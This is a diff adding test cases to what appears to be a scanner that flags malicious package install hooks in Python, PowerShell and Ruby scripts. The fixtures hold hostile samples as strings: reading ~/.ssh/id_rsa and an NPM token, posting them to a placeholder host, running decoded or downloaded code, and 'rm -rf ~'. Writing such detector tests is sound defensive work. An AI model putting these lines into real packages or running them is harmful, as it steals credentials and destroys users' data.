@@ -401,6 +401,88 @@ TEST(scripts_and_binaries)
                "never binary.file");
 }
 
+#define HOOK(command)                                                                \
+        {                                                                            \
+                "package.json", "{\"scripts\":{\"postinstall\":\"" command "\"}}", 0 \
+        }
+
+TEST(ordinary_programs_in_other_languages_are_silent)
+{
+        static const char *const not_seen[] = { "install secret.read", "install net.send",
+                                                "install env.enumerate", "never unanalysed" };
+        const struct file files[] = {
+                HOOK("python3 a.py"),
+                { "a.py",
+                  "# open('~/.ssh/id_rsa')\nimport os, subprocess\n"
+                  "env = os.environ.copy()\nprint(os.environ['PATH'])\n"
+                  "subprocess.run(['cmake', '.'], env=env)\nopen('out.txt', 'w').write('x')\n",
+                  0 },
+        };
+
+        for (size_t i = 0; i < QN_ARRAY_SIZE(not_seen); i++)
+                expect_not(files, QN_ARRAY_SIZE(files), not_seen[i]);
+        expect(files, QN_ARRAY_SIZE(files), "install proc.exec program=cmake");
+        expect(files, QN_ARRAY_SIZE(files), "install file.write path=out.txt");
+}
+
+TEST(python)
+{
+        const struct file files[] = {
+                HOOK("python3 a.py"),
+                { "a.py",
+                  "k = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
+                  "requests.post('https://c.example.invalid/x', json={'k': k})\n"
+                  "exec(base64.b64decode('eA=='))\n"
+                  "with open(f'/proc/{pid}/mem', 'rb') as m: pass\n"
+                  "json.dumps(dict(os.environ))\nos.system('rm -rf ~')\n",
+                  0 },
+        };
+        static const char *const seen[] = {
+                "install secret.read which=ssh path=~/.ssh/id_rsa",
+                "install net.send host=c.example.invalid +ssh +env",
+                "install code.eval how=exec +decoded",
+                "install memory.read path=/proc/*/mem",
+                "install env.enumerate",
+                "install system.destroy path=~",
+        };
+
+        for (size_t i = 0; i < QN_ARRAY_SIZE(seen); i++)
+                expect(files, QN_ARRAY_SIZE(files), seen[i]);
+        expect(FILES(HOOK("sudo python3 -c 'open(\\\"/proc/9/mem\\\",\\\"rb\\\")'")),
+               "install memory.read path=/proc/9/mem");
+}
+
+TEST(powershell_and_ruby)
+{
+        const struct file ps1[] = {
+                HOOK("powershell -File a.ps1"),
+                { "a.ps1",
+                  "$k = Get-Content $env:USERPROFILE\\.ssh\\id_rsa\n"
+                  "Invoke-RestMethod -Uri 'https://c.example.invalid/x' -Method Post -Body $k\n"
+                  "IEX (New-Object Net.WebClient).DownloadString('https://c.example.invalid')\n",
+                  0 },
+        };
+        const struct file ruby[] = {
+                HOOK("ruby a.rb"),
+                { "a.rb", "Net::HTTP.post(URI('https://c.example.invalid'), ENV['NPM_TOKEN'])\n",
+                  0 },
+        };
+
+        expect(ps1, 2, "install secret.read which=ssh path=~/.ssh/id_rsa");
+        expect(ps1, 2, "install net.send host=c.example.invalid +ssh");
+        expect(ps1, 2, "install code.eval +network");
+        expect(ruby, 2, "install secret.read which=npm name=NPM_TOKEN");
+        expect(ruby, 2, "install net.send +npm");
+}
+
+TEST(scripts_are_not_taken_for_javascript)
+{
+        expect_not(FILES(HOOK("sh a.sh"), { "a.sh", "case $1 in a) exit;; esac\n", 0 }),
+                   "never unanalysed");
+        expect(FILES(HOOK("node a.py"), { "a.py", "eval(atob('eA=='))\n", 0 }),
+               "install code.eval");
+}
+
 TEST(floods_are_told)
 {
         _cleanup_(qn_buf_done) struct qn_buf code = QN_BUF_INIT(1 << 20);
